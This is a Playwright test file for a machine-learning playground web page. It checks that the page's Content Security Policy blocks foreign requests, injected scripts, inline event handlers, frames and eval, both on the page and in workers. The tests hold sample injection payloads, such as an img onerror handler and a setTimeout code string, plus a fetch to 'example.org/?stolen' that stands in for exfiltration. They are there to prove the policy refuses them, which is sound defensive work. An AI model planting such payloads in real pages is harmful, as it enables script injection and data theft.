/** What the page lets itself do: its policy is never broken by the page's own ways, and holds against what is put into it. */
import { expect, test } from '@playwright/test'
import type { Page, Worker } from '@playwright/test'
import { complaintsOf, openPage, saved, standAt } from './descent.ts'

declare global {
  interface Window {
    /** What the policy has refused: the directive and what it was about. */
    refused: string[]
  }
}

async function watched(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    window.refused = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => window.refused.push(`${effectiveDirective} ${blockedURI}`))
  })
  return () => page.evaluate(() => window.refused)
}

/** What the policy has refused in any worker that the page started. The header of its script holds a worker; a host may not send it. */
function watchedWorkers(page: Page): () => Promise<readonly string[]> {
  const workers: Promise<Worker>[] = []
  page.on('worker', (worker) => {
    workers.push(
      worker.evaluate(() => {
        const refused: string[] = []
        Object.assign(globalThis, { refused })
        globalThis.addEventListener('securitypolicyviolation', (event) => {
          const { effectiveDirective, blockedURI } = event as SecurityPolicyViolationEvent
          refused.push(`${effectiveDirective} ${blockedURI}`)
        })
      }).then(() => worker),
    )
  })
  return async () => {
    const lists = await Promise.all((await Promise.all(workers)).map((worker) => worker.evaluate(() => (globalThis as unknown as { readonly refused: readonly string[] }).refused)))
    expect(lists.length).toBeGreaterThan(0)
    return lists.flat()
  }
}

/** Addresses that were asked for, from the page and its workers. */
function askedOf(page: Page): string[] {
  const asked: string[] = []
  page.context().on('request', (request) => asked.push(request.url()))
  return asked
}

const training = '#v1&kind=network&data=moons(points=80)&model=mlp(4,tanh)&loss=bce_logits&batch=16&epochs=4&device=cpu&run=adam,lr=0.03'

test('a race, a training, an experiment, a lesson, an export and the history break no rule of the policy and ask no other host', async ({ page, baseURL }) => {
  test.setTimeout(120_000)
  const complaints = complaintsOf(page)
  const asked = askedOf(page)
  const refused = await watched(page)
  const refusedInWorkers = watchedWorkers(page)
  const found: string[] = []
  await openPage(page)
  await standAt(page, 20)
  await page.getByRole('button', { name: 'Export: files to take away, and files to open' }).click()
  const card = page.locator('.export-card')
  await saved(page, () => card.getByRole('button', { name: 'Save as JSON', exact: true }).click())
  await page.keyboard.press('Escape')
  await page.evaluate((link) => {
    location.hash = link
  }, training)
  await expect.poll(() => page.evaluate(() => window.playground.scenario().kind)).toBe('network')
  await page.getByRole('navigation', { name: 'Modes' }).getByRole('button', { name: 'Lessons' }).click()
  await expect(page.locator('.lesson-panel')).toBeVisible()
  await page.locator('body').press('h')
  await expect(page.getByRole('dialog', { name: 'History' })).toBeVisible()
  found.push(...(await refused()), ...(await refusedInWorkers()))
  await openPage(page, '#v1&lesson=step-size&step=1')
  await expect(page.locator('.lesson-panel .katex').first()).toBeVisible()
  found.push(...(await refused()))
  await page.evaluate(() => {
    location.hash = 'v1&kind=strategy&strategy=quantization&seed=1'
  })
  await expect.poll(() => page.evaluate(() => window.playground.scenario().kind)).toBe('strategy')
  found.push(...(await refused()))
  expect(found).toEqual([])
  expect(asked.length).toBeGreaterThan(5)
  const home = new URL(baseURL ?? page.url()).origin
  expect(asked.filter((url) => !url.startsWith(`${home}/`) && !url.startsWith(`blob:${home}/`) && !url.startsWith('data:'))).toEqual([])
  // The settings of a person stay with the person: the fragment is in no address that was asked for.
  expect(asked.filter((url) => /kind=|landscape=|lesson=/.test(url))).toEqual([])
  expect(complaints).toEqual([])
})

test('a script in the text, code in a string, another host and a frame are refused', async ({ page }) => {
  const refused = await watched(page)
  const asked = askedOf(page)
  await openPage(page)
  expect(await refused()).toEqual([])
  const hurt = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.hurt = 1'
    document.body.append(script)
    const box = document.createElement('div')
    box.innerHTML = '<img src="x:" onerror="window.hurt = 2">'
    document.body.append(box)
    const frame = document.createElement('iframe')
    frame.src = 'https://example.org/'
    document.body.append(frame)
    const late = setTimeout as (code: string) => number
    try {
      late('window.hurt = 3')
    } catch {
      // Refused by throwing, or by doing nothing.
    }
    const answer = await fetch('https://example.org/?stolen').then(() => 'answered', () => 'refused')
    await new Promise((resolve) => setTimeout(resolve, 300))
    return { answer, hurt: 'hurt' in window }
  })
  expect(hurt).toEqual({ answer: 'refused', hurt: false })
  const directives = new Set((await refused()).map((line) => line.split(' ', 1)[0]))
  expect(directives).toEqual(new Set(['connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-attr', 'script-src-elem']))
  expect(asked.filter((url) => url.includes('example.org'))).toEqual([])
  expect(await page.locator('meta[name=referrer]').getAttribute('content')).toBe('no-referrer')
})

test('a worker makes no script of a text either, and asks no other host', async ({ page, baseURL }) => {
  const scripts = new Map<string, string | undefined>()
  page.on('response', (response) => scripts.set(response.url(), response.headers()['content-security-policy']))
  const started = page.waitForEvent('worker')
  const refused = watchedWorkers(page)
  await openPage(page)
  const worker = await started
  const hosted = process.env['PLAYGROUND_URL'] !== undefined
  test.skip(hosted && scripts.get(worker.url()) === undefined, 'this host sends no policy with its scripts')
  expect(new URL(worker.url()).origin).toBe(new URL(baseURL ?? '').origin)
  expect(await refused()).toEqual([])
  const made = await worker.evaluate(async () => {
    const attempt = (make: () => unknown): string => {
      try {
        return String(make())
      } catch (error) {
        return error instanceof Error ? error.name : String(error)
      }
    }
    const asked = await fetch('https://example.org/?stolen').then(() => 'answered', () => 'refused')
    // What is evaluated from outside may make scripts; what it leaves for later is the worker's own.
    return new Promise<readonly string[]>((resolve) => {
      // oxlint-disable-next-line typescript/no-implied-eval, no-eval -- that it is refused is the point
      setTimeout(() => resolve([attempt(() => new Function('return 1')()), attempt(() => (0, eval)('1')), asked]))
    })
  })
  expect(made).toEqual(['EvalError', 'EvalError', 'refused'])
  expect(new Set((await refused()).map((line) => line.split(' ', 1)[0]))).toEqual(new Set(['script-src', 'connect-src']))
})
